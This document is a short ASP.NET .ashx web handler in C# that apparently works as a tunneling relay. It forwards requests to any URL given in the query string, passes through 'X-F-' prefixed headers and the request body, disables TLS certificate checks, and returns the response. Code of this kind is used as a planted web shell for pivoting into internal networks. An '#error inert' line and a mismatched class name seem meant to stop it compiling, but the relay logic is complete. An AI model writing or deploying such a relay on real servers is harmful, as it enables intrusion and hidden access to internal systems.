<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System.IO; using System.Net; using System.Web;
public class Relay : IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext c)
    {
        ServicePointManager.ServerCertificateValidationCallback = (a, b, d, e) => true;
        var w = (HttpWebRequest)WebRequest.Create(HttpUtility.UrlDecode(c.Request.QueryString.ToString()));
        w.Method = c.Request.HttpMethod;
        foreach (string k in c.Request.Headers) if (k.StartsWith("X-F-")) w.Headers[k.Substring(4)] = c.Request.Headers[k];
        if (c.Request.ContentLength > 0) c.Request.InputStream.CopyTo(w.GetRequestStream());
        w.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream);
    }
}
